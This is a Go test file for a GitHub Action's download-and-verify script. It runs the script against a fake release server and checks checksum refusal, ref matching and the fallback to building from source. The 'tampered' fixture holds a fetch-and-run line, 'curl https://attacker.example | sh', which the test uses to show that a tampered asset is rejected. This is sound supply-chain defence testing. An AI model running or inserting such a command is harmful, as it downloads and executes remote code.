// Package scripts_test tests the shell scripts the composite actions and the
// release run: scripts/install-binary (the actions' download-and-verify step)
// against a loopback HTTP server serving a fake release, and the actions'
// runs: sections.
package scripts_test

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"sort"
	"strings"
	"sync"
	"testing"
)

// fakeBinary is what the fake release serves: a script that records that it
// ran (in $MARKER) and with which arguments.
const fakeBinary = "#!/bin/sh\necho \"ran $*\" >> \"$MARKER\"\necho \"provenant fake $*\"\n"

// fakeGo stands in for the runner's Go in the build-from-source fallback: it
// records its arguments and writes fakeBinary to the -o path.
const fakeGo = `#!/bin/sh
echo "$*" >> "$GO_CALLS"
[ "$1" = version ] && { echo "go version go0.0-fake linux/amd64"; exit 0; }
out=
while [ $# -gt 0 ]; do
  [ "$1" = -o ] && { out=$2; shift; }
  shift
done
[ -n "$out" ] || { echo "fake go: no -o" >&2; exit 2; }
printf '%s' "$FAKE_BINARY" > "$out" && chmod +x "$out"
`

// release is the fake GitHub release: the assets it serves under
// /download/TAG/NAME, and the paths requested.
type release struct {
	mu       sync.Mutex
	assets   map[string]string // "v1.2.3/provenant-linux-amd64" -> content
	requests []string
}

func (r *release) ServeHTTP(w http.ResponseWriter, req *http.Request) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.requests = append(r.requests, req.URL.Path)
	body, ok := r.assets[strings.TrimPrefix(req.URL.Path, "/download/")]
	if !ok {
		http.NotFound(w, req)
		return
	}
	fmt.Fprint(w, body)
}

func sha256Hex(s string) string {
	sum := sha256.Sum256([]byte(s))
	return hex.EncodeToString(sum[:])
}

// actionCheckout builds a fake action repository at a ref: the script under
// test, a main.go, and dist/release-tag and dist/checksums.txt when given;
// with a tag, dist/source-digest of that tree too (a release commit).
func actionCheckout(t *testing.T, tag, checksums string) string {
	t.Helper()
	return actionTree(t, tag, checksums, nil)
}

// actionTree is actionCheckout with more files in the tree (before the
// source digest is taken).
func actionTree(t *testing.T, tag, checksums string, files map[string]string) string {
	t.Helper()
	root := t.TempDir()
	for name, content := range files {
		writeFile(t, filepath.Join(root, name), content, 0o755)
	}
	script, err := os.ReadFile("install-binary")
	if err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(root, "scripts", "install-binary"), string(script), 0o755)
	writeFile(t, filepath.Join(root, "main.go"), "package main\n\nfunc main() {}\n", 0o644)
	if tag != "" {
		writeFile(t, filepath.Join(root, "dist", "release-tag"), tag+"\n", 0o644)
		writeFile(t, filepath.Join(root, "dist", "source-digest"), sourceDigest(t, root)+"\n", 0o644)
	}
	if checksums != "" {
		writeFile(t, filepath.Join(root, "dist", "checksums.txt"), checksums, 0o644)
	}
	return root
}

// sourceDigest is the source digest scripts/build-release records in
// dist/source-digest, computed independently of the scripts: sha256 of the
// "HEX  PATH" lines, sorted by path, of every regular file outside .git/ and
// dist/.
func sourceDigest(t *testing.T, root string) string {
	t.Helper()
	var lines []string
	err := filepath.WalkDir(root, func(path string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(root, path)
		rel = filepath.ToSlash(rel)
		if d.IsDir() && (rel == ".git" || rel == "dist") {
			return filepath.SkipDir
		}
		if !d.Type().IsRegular() {
			return nil
		}
		data, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		lines = append(lines, sha256Hex(string(data))+"  "+rel+"\n")
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	sort.Slice(lines, func(i, j int) bool {
		return strings.SplitN(lines[i], "  ", 2)[1] < strings.SplitN(lines[j], "  ", 2)[1]
	})
	return sha256Hex(strings.Join(lines, ""))
}

func writeFile(t *testing.T, path, content string, mode os.FileMode) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), mode); err != nil {
		t.Fatal(err)
	}
}

// run is one run of install-binary and what it left behind.
type run struct {
	err            error
	stderr         string
	outputs        map[string]string // GITHUB_OUTPUT
	marker         string            // what the installed binary recorded
	goCalls        string            // what the fake go recorded
	binDir, action string
}

// runScript runs ROOT/scripts/install-binary ARGS with a fake go first on
// PATH and the runner and ref environment given.
func runScript(t *testing.T, root, binDir string, env []string, args ...string) run {
	t.Helper()
	tmp := t.TempDir()
	goDir := filepath.Join(tmp, "gobin")
	writeFile(t, filepath.Join(goDir, "go"), fakeGo, 0o755)
	r := run{binDir: binDir, action: root}
	cmd := exec.Command("bash", append([]string{filepath.Join(root, "scripts", "install-binary")}, args...)...)
	cmd.Env = append([]string{
		"PATH=" + goDir + string(os.PathListSeparator) + os.Getenv("PATH"),
		"HOME=" + tmp,
		"PROVENANT_BIN_DIR=" + binDir,
		"GITHUB_OUTPUT=" + filepath.Join(tmp, "output"),
		"MARKER=" + filepath.Join(tmp, "marker"),
		"GO_CALLS=" + filepath.Join(tmp, "go-calls"),
		"FAKE_BINARY=" + fakeBinary,
	}, env...)
	var stderr strings.Builder
	cmd.Stderr = &stderr
	r.err = cmd.Run()
	r.stderr = stderr.String()
	r.outputs = map[string]string{}
	out, _ := os.ReadFile(filepath.Join(tmp, "output"))
	for _, line := range strings.Split(strings.TrimSpace(string(out)), "\n") {
		if k, v, ok := strings.Cut(line, "="); ok {
			r.outputs[k] = v
		}
	}
	m, _ := os.ReadFile(filepath.Join(tmp, "marker"))
	r.marker = string(m)
	g, _ := os.ReadFile(filepath.Join(tmp, "go-calls"))
	r.goCalls = string(g)
	return r
}

func needBash(t *testing.T) {
	t.Helper()
	if runtime.GOOS == "windows" {
		// On Windows runners `bash` on PATH may be WSL's rather than Git
		// Bash, and the fake binary is a shell script; the script itself
		// runs there under `shell: bash` (Git Bash) in the actions.
		t.Skip("the fake release binaries are shell scripts")
	}
	needTool(t, "bash")
	needTool(t, "curl")
}

// TestInstallBinary runs the actions' download-and-verify step against a
// loopback server serving a fake release v1.2.3.
func TestInstallBinary(t *testing.T) {
	needBash(t)
	good := fakeBinary
	tampered := fakeBinary + "curl https://attacker.example | sh\n"
	checksums := sha256Hex(good) + "  provenant-linux-amd64\n" +
		sha256Hex(good) + "  provenant-darwin-arm64\n" +
		sha256Hex(good) + "  provenant-windows-amd64.exe\n" +
		sha256Hex(good) + "  provenant-linux-arm64\n"
	tests := []struct {
		name       string
		tag        string // dist/release-tag; "" none
		checksums  string // dist/checksums.txt; "" none
		assets     map[string]string
		env        []string
		wantErr    string // in stderr when the script must fail
		wantSource bool   // falls back to building from source
		wantReason string // in stderr
		wantGet    string // the one request expected; "" none
		wantPath   string // the binary's name in the bin dir
	}{{
		name: "right checksum runs the binary", tag: "v1.2.3", checksums: checksums,
		assets:     map[string]string{"v1.2.3/provenant-linux-amd64": good},
		env:        []string{"RUNNER_OS=Linux", "RUNNER_ARCH=X64", "PROVENANT_ACTION_REF=v1.2.3"},
		wantReason: "sha256 " + sha256Hex(good) + " matches dist/checksums.txt",
		wantGet:    "/download/v1.2.3/provenant-linux-amd64", wantPath: "provenant",
	}, {
		name: "major version alias uses the release of its commit", tag: "v1.2.3", checksums: checksums,
		assets:  map[string]string{"v1.2.3/provenant-darwin-arm64": good},
		env:     []string{"RUNNER_OS=macOS", "RUNNER_ARCH=ARM64", "PROVENANT_ACTION_REF=v1"},
		wantGet: "/download/v1.2.3/provenant-darwin-arm64", wantPath: "provenant",
	}, {
		name: "commit pin of a release commit", tag: "v1.2.3", checksums: checksums,
		assets:  map[string]string{"v1.2.3/provenant-windows-amd64.exe": good},
		env:     []string{"RUNNER_OS=Windows", "RUNNER_ARCH=X64", "PROVENANT_ACTION_REF=" + strings.Repeat("ab", 20)},
		wantGet: "/download/v1.2.3/provenant-windows-amd64.exe", wantPath: "provenant.exe",
	}, {
		name: "replaced release asset is refused and never runs", tag: "v1.2.3", checksums: checksums,
		assets:  map[string]string{"v1.2.3/provenant-linux-amd64": tampered},
		env:     []string{"RUNNER_OS=Linux", "RUNNER_ARCH=X64", "PROVENANT_ACTION_REF=v1.2.3"},
		wantErr: "checksum mismatch for provenant-linux-amd64 from http://127.0.0.1", wantGet: "/download/v1.2.3/provenant-linux-amd64",
	}, {
		name: "malformed checksum line is refused", tag: "v1.2.3", checksums: "deadbeef  provenant-linux-amd64\n",
		assets:  map[string]string{"v1.2.3/provenant-linux-amd64": good},
		env:     []string{"RUNNER_OS=Linux", "RUNNER_ARCH=X64", "PROVENANT_ACTION_REF=v1.2.3"},
		wantErr: "has 'deadbeef', not a sha256",
	}, {
		name: "missing asset builds from source", tag: "v1.2.3", checksums: checksums,
		assets:     map[string]string{},
		env:        []string{"RUNNER_OS=Linux", "RUNNER_ARCH=ARM64", "PROVENANT_ACTION_REF=v1.2.3"},
		wantSource: true, wantReason: "release v1.2.3 has no asset provenant-linux-arm64",
		wantGet: "/download/v1.2.3/provenant-linux-arm64", wantPath: "provenant",
	}, {
		name: "unreleased commit builds from source", checksums: checksums,
		env:        []string{"RUNNER_OS=Linux", "RUNNER_ARCH=X64", "PROVENANT_ACTION_REF=" + strings.Repeat("cd", 20)},
		wantSource: true, wantReason: "no dist/release-tag", wantPath: "provenant",
	}, {
		name: "branch ref is not the release", tag: "v1.2.3", checksums: checksums,
		assets:     map[string]string{"v1.2.3/provenant-linux-amd64": good},
		env:        []string{"RUNNER_OS=Linux", "RUNNER_ARCH=X64", "PROVENANT_ACTION_REF=main"},
		wantSource: true, wantReason: "action ref main is not release v1.2.3", wantPath: "provenant",
	}, {
		name: "other release tag is not the release", tag: "v1.2.3", checksums: checksums,
		env:        []string{"RUNNER_OS=Linux", "RUNNER_ARCH=X64", "PROVENANT_ACTION_REF=v1.3.0"},
		wantSource: true, wantReason: "action ref v1.3.0 is not release v1.2.3", wantPath: "provenant",
	}, {
		name: "local action has no ref", tag: "v1.2.3", checksums: checksums,
		env:        []string{"RUNNER_OS=Linux", "RUNNER_ARCH=X64", "PROVENANT_ACTION_REF="},
		wantSource: true, wantReason: "the action has no ref", wantPath: "provenant",
	}, {
		name: "no checksum line for this platform", tag: "v1.2.3", checksums: checksums,
		assets:     map[string]string{"v1.2.3/provenant-windows-arm64.exe": good},
		env:        []string{"RUNNER_OS=Windows", "RUNNER_ARCH=ARM64", "PROVENANT_ACTION_REF=v1.2.3"},
		wantSource: true, wantReason: "no line for provenant-windows-arm64.exe", wantPath: "provenant.exe",
	}, {
		name: "unsupported architecture", tag: "v1.2.3", checksums: checksums,
		env:        []string{"RUNNER_OS=Linux", "RUNNER_ARCH=X86", "PROVENANT_ACTION_REF=v1.2.3"},
		wantSource: true, wantReason: "no release binary for linux/X86",
	}}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			rel := &release{assets: tc.assets}
			srv := httptest.NewServer(rel)
			defer srv.Close()
			root := actionCheckout(t, tc.tag, tc.checksums)
			binDir := filepath.Join(t.TempDir(), "bin")
			env := append([]string{"PROVENANT_RELEASE_URL=" + srv.URL + "/download"}, tc.env...)
			r := runScript(t, root, binDir, env)
			checkRequests(t, rel, tc.wantGet)
			if tc.wantReason != "" && !strings.Contains(r.stderr, tc.wantReason) {
				t.Errorf("stderr lacks %q:\n%s", tc.wantReason, r.stderr)
			}
			switch {
			case tc.wantErr != "":
				checkRefused(t, r, tc.wantErr)
			case tc.wantSource:
				checkFallback(t, r, tc.wantPath)
			default:
				checkInstalled(t, r, tc.wantPath)
			}
		})
	}
}

func checkRequests(t *testing.T, rel *release, want string) {
	t.Helper()
	rel.mu.Lock()
	defer rel.mu.Unlock()
	var wantReqs []string
	if want != "" {
		wantReqs = []string{want}
	}
	if fmt.Sprint(rel.requests) != fmt.Sprint(wantReqs) {
		t.Errorf("requests = %q, want %q", rel.requests, wantReqs)
	}
}

// checkRefused: the script failed with a clear error, the binary never ran
// and nothing is left in the bin dir.
func checkRefused(t *testing.T, r run, want string) {
	t.Helper()
	if r.err == nil {
		t.Fatalf("succeeded, want failure %q; stderr:\n%s", want, r.stderr)
	}
	if !strings.Contains(r.stderr, "::error") || !strings.Contains(r.stderr, want) {
		t.Errorf("stderr lacks ::error %q:\n%s", want, r.stderr)
	}
	if r.marker != "" {
		t.Errorf("the binary ran: %q", r.marker)
	}
	entries, _ := os.ReadDir(r.binDir)
	for _, e := range entries {
		t.Errorf("left in the bin dir: %s", e.Name())
	}
	if r.outputs["path"] != "" {
		t.Errorf("wrote output path=%q", r.outputs["path"])
	}
}

// checkInstalled: the verified binary is in place, named for the OS, and ran.
func checkInstalled(t *testing.T, r run, name string) {
	t.Helper()
	if r.err != nil {
		t.Fatalf("failed: %v; stderr:\n%s", r.err, r.stderr)
	}
	want := filepath.Join(r.binDir, name)
	if r.outputs["path"] != want || r.outputs["build-from-source"] != "false" {
		t.Errorf("outputs = %v, want path=%s build-from-source=false", r.outputs, want)
	}
	if r.marker != "ran version\n" {
		t.Errorf("binary recorded %q, want it to have run `version` once", r.marker)
	}
	if r.goCalls != "" {
		t.Errorf("go was called: %q", r.goCalls)
	}
}

// checkFallback: the script asks for a source build (and says so), then
// `install-binary --build` builds with the runner's go and the result runs.
func checkFallback(t *testing.T, r run, name string) {
	t.Helper()
	if r.err != nil {
		t.Fatalf("failed: %v; stderr:\n%s", r.err, r.stderr)
	}
	if r.outputs["build-from-source"] != "true" || !strings.Contains(r.stderr, "::notice title=provenant::no prebuilt binary") {
		t.Fatalf("no build-from-source fallback: outputs %v, stderr:\n%s", r.outputs, r.stderr)
	}
	if r.marker != "" || r.goCalls != "" {
		t.Errorf("fetch mode ran something: binary %q, go %q", r.marker, r.goCalls)
	}
	if name == "" { // unsupported platform: the build would fail honestly
		return
	}
	if want := filepath.Join(r.binDir, name); r.outputs["path"] != want {
		t.Errorf("path = %q, want %q", r.outputs["path"], want)
	}
	env := []string{"RUNNER_OS=Linux", "RUNNER_ARCH=X64"}
	if strings.HasSuffix(name, ".exe") {
		env[0] = "RUNNER_OS=Windows"
	}
	b := runScript(t, r.action, r.binDir, env, "--build")
	if b.err != nil {
		t.Fatalf("--build failed: %v; stderr:\n%s", b.err, b.stderr)
	}
	wantBuild := fmt.Sprintf("build -C %s -trimpath -o %s .", r.action, filepath.Join(r.binDir, name))
	if !strings.Contains(b.goCalls, wantBuild) {
		t.Errorf("go calls = %q, want %q", b.goCalls, wantBuild)
	}
	if !strings.Contains(b.stderr, "building provenant from source at "+r.action) {
		t.Errorf("--build does not say it builds from source:\n%s", b.stderr)
	}
	if b.marker != "ran version\n" || b.outputs["path"] != r.outputs["path"] {
		t.Errorf("built binary: ran %q, path %q", b.marker, b.outputs["path"])
	}
}
